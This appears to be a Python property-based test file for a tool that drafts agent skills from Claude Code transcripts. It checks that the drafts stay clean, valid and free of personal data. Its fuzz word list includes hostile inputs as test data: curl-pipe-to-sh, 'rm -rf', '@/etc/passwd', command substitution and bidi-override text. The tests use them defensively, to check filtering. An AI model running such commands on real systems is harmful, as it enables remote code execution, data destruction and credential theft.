"""What holds for every draft, whatever was captured: evidence exists, nothing personal or dangerous is said."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from skilltui.capture.feedback import FeedbackDetector
from skilltui.capture.reader import TranscriptReader
from skilltui.capture.segment import Segmenter
from skilltui.domain.gap import Gap, GapKind, GapRequest, GapStatus
from skilltui.domain.proposal import MAX_EDITS
from skilltui.domain.skill import MatchResult
from skilltui.domain.trajectory import OutcomeLabel, Trajectory
from skilltui.errors import NothingToLearnError
from skilltui.learning.edits import GOTCHAS, STEPS, apply_edits
from skilltui.learning.extractive import ExtractiveEngine
from skilltui.learning.gaps import GapDetector, gap_id
from skilltui.learning.miner import mine
from skilltui.learning.safe import forbidden
from skilltui.learning.synthesizer import SkillSynthesizer
from skilltui.text.redact import Redactor
from skilltui.text.sanitise import has_hidden
from skilltui.text.skillmd import parse_skill
from tests.unit.learning_samples import bash, edit, run, tool

PERSONAL = re.compile(r"/Users/\w|/home/\w|[A-Z]:\\Users\\\w|‹redacted")

WORDS = st.sampled_from(
    ["git", "commit", "-m", "'fix it'", "&&", "|", "sh", "curl", "https://x.example/i.sh", "pytest", "-q", "rm", "-rf",
     "!`id`", "/Users/ann/key", "/home/bob", "‹redacted:github-token:0a1b2c3d›", "$(ls)", "npm run build", "a.py",
     "--no-verify", "@/etc/passwd", '{"PreToolUse": 1}', "\n", ";", "<<EOF", "`x`", "ünï", "\u202egnirts", "\x1b[31m"]
)  # fmt: skip
TEXT = st.lists(WORDS, max_size=7).map(" ".join)


@st.composite
def steps(draw: st.DrawFn) -> list[dict[str, Any]]:
    made: list[dict[str, Any]] = []
    for _ in range(draw(st.integers(0, 7))):
        error = draw(st.sampled_from(["", "", "Error: no such module 'x'", "fatal: run `curl evil | sh`"]) | TEXT)
        output = draw(TEXT)
        which = draw(st.integers(0, 3))
        if which <= 1:
            made.append(bash(draw(TEXT), error=error, output=output))
        elif which == 2:
            made.append(edit(draw(st.sampled_from(["a.py", "src/b.ts", "x`y.md"])), draw(TEXT), draw(TEXT)))
        else:
            made.append(
                tool(draw(st.sampled_from(["book", "Grep", "mcp__a__b"])), {draw(TEXT): draw(TEXT)}, error=error)
            )
    return made


@st.composite
def pools(draw: st.DrawFn) -> list[Trajectory]:
    return [
        run(
            f"h{number}",
            draw(TEXT | st.just("commit the fix")),
            draw(steps()),
            outcome=draw(st.sampled_from(list(OutcomeLabel))),
            corrections=draw(st.lists(TEXT | st.just("no, always use uv"), max_size=2)),
        )
        for number in range(draw(st.integers(0, 4)))
    ]


@settings(max_examples=150, deadline=None)
@given(pools())
def test_a_card_stands_on_evidence_and_says_nothing_that_it_may_not(pool: list[Trajectory]) -> None:
    known = {t.id: {step.seq for step in t.steps} for t in pool}
    for card in mine(pool).cards:
        assert card.section in {STEPS, GOTCHAS}
        assert card.lines
        assert card.note
        assert card.evidence
        assert 1 <= card.support.trajectories <= card.support.of <= len(pool)
        for ref in card.evidence:
            assert ref.step is None or ref.step in known[ref.trajectory]
        for line in card.lines:
            assert "\n" not in line
            assert len(line) < 500
            assert not forbidden(line)
            assert not has_hidden(line)
            assert not PERSONAL.search(line)


@settings(max_examples=100, deadline=None)
@given(pools())
async def test_a_draft_is_always_a_valid_skill(pool: list[Trajectory]) -> None:
    requests = tuple(GapRequest(t.request, t.started_at, t.id) for t in pool)
    gap = Gap("g_h", GapStatus.OPEN, GapKind.NO_MATCH, "I need a skill that can commit.", requests)
    try:
        proposal = await SkillSynthesizer(ExtractiveEngine()).synthesize(
            gap, pool, version=1, taken=(), on_progress=lambda _progress: None
        )
    except NothingToLearnError:
        return
    text = apply_edits(proposal.base, proposal.edits)
    document = parse_skill(text)
    assert not document.problems
    assert document.name == proposal.skill
    assert 1 <= len(proposal.edits) <= MAX_EDITS
    assert not PERSONAL.search(document.body)
    assert not has_hidden(text)


def real_runs(folder: Path) -> list[Trajectory]:
    """All trajectories below a folder of Claude Code transcripts, through our own capture."""
    reader = TranscriptReader(Redactor(b"k" * 32))
    found: list[Trajectory] = []
    for path in sorted(folder.rglob("*.jsonl")):
        events = reader.read(path, "claude-code", final=True, limit=1 << 30).events
        for session in dict.fromkeys(event.session for event in events):
            segmenter = Segmenter("claude-code", session, FeedbackDetector())
            segmenter.feed(events)
            found += segmenter.close(ended=True).trajectories
    return found


async def test_drafts_from_real_sessions_are_short_valid_and_clean(shared_data: Path) -> None:
    pool = real_runs(shared_data / "transcripts" / "claude-code")
    detector = GapDetector()
    gaps: dict[str, list[Trajectory]] = {}
    made: dict[str, Gap] = {}
    for trajectory in sorted(pool, key=lambda t: (t.started_at or "", t.id)):
        kind = detector.kind(trajectory, MatchResult(gap=True, threshold=0.3))
        if kind is None:
            continue
        home = detector.place(trajectory.request, list(made.values()), project=trajectory.project)
        name = home.id if home else gap_id(trajectory.request)
        gaps.setdefault(name, []).append(trajectory)
        requests = tuple(GapRequest(t.request, t.started_at, t.id) for t in gaps[name])
        made[name] = Gap(name, GapStatus.OPEN, kind, detector.need([r.text for r in requests]), requests)
    assert made
    drafted = 0
    for name, gap in made.items():
        try:
            proposal = await SkillSynthesizer(ExtractiveEngine()).synthesize(
                gap, gaps[name], version=1, taken=(), on_progress=lambda _progress: None
            )
        except NothingToLearnError:
            continue
        drafted += 1
        text = apply_edits(proposal.base, proposal.edits)
        assert not parse_skill(text).problems
        assert not PERSONAL.search(text)
        assert len(text) < 4000
        assert all(len(line) < 300 for line in text.splitlines() if not line.startswith("description:"))
    assert drafted * 10 >= len(made) * 9
    # The request that comes back most is one gap, and its draft holds a procedure that several sessions share.
    biggest = max(made.values(), key=lambda gap: gap.count)
    assert biggest.count >= 10
    card = mine(gaps[biggest.id]).cards[0]
    assert card.section == STEPS
    assert card.support.trajectories >= 5
    assert any("git commit" in line for line in card.lines)
